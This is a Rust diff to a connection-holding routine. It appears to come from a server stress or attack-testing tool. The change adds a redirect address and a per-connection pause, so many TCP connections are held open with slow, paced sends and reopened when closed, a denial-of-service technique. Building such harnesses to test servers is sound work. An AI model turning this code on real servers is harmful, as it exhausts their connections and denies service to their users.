@@ -22,6 +22,10 @@ pub struct Connections {
     pub each: usize,
     /// Size of the receive buffer in bytes; the system's default if absent.
     pub receive_buffer: Option<usize>,
+    /// Where they go, if not to the server's address for queries.
+    pub to: Option<SocketAddr>,
+    /// The pause between two messages on the same connection; none if absent.
+    pub pause: Option<Duration>,
     /// Number of messages sent on each.
     pub frames: usize,
 }
@@ -31,6 +35,8 @@ struct Connection {
     client: Ipv4Addr,
     stream: TcpStream,
     since: Instant,
+    /// When the next message is due.
+    next: Instant,
     /// Number of times that it was reopened.
     opened: usize,
     /// Number of messages begun, and the unsent rest of the last one.
@@ -42,20 +48,22 @@ struct Connection {
 /// holds the connections open until the attack is over. A connection that the server closes is opened again.
 pub fn hold_open(target: &Target, of: &Connections, frame: impl Fn(usize, usize) -> Vec<u8>) -> io::Result<()> {
     let mut connections = Vec::new();
+    let to = of.to.unwrap_or(target.address);
     for client in &of.clients {
         for _ in 0..of.each {
-            let stream = connect(*client, target.address, of.receive_buffer)?;
+            let stream = connect(*client, to, of.receive_buffer)?;
             let (since, rest) = (Instant::now(), Vec::new());
-            connections.push(Connection { client: *client, stream, since, opened: 0, begun: 0, rest });
+            connections.push(Connection { client: *client, stream, since, next: since, opened: 0, begun: 0, rest });
             target.count(u64::from(of.frames == 0));
         }
     }
     while !target.is_over() {
         for connection in &mut connections {
-            let open = connection.send(target, of.frames, &frame) && connection.is_open();
+            let open = connection.send(target, of, &frame) && connection.is_open();
             if !open && connection.since.elapsed() >= AGAIN {
-                connection.stream = connect(connection.client, target.address, of.receive_buffer)?;
+                connection.stream = connect(connection.client, to, of.receive_buffer)?;
                 connection.since = Instant::now();
+                connection.next = connection.since;
                 connection.opened += 1;
                 (connection.begun, connection.rest) = (0, Vec::new());
                 target.count(u64::from(of.frames == 0));
@@ -68,11 +76,14 @@ pub fn hold_open(target: &Target, of: &Connections, frame: impl Fn(usize, usize)
 
 impl Connection {
     /// Sends as much as the server takes; returns false if the server has closed the connection.
-    fn send(&mut self, target: &Target, frames: usize, frame: impl Fn(usize, usize) -> Vec<u8>) -> bool {
+    fn send(&mut self, target: &Target, of: &Connections, frame: impl Fn(usize, usize) -> Vec<u8>) -> bool {
         loop {
             if self.rest.is_empty() {
-                if self.begun == frames {
+                if self.begun == of.frames || Instant::now() < self.next {
                     return true;
+                }
+                if let Some(pause) = of.pause {
+                    self.next = Instant::now() + pause;
                 }
                 self.rest = frame(self.opened, self.begun);
                 self.begun += 1;
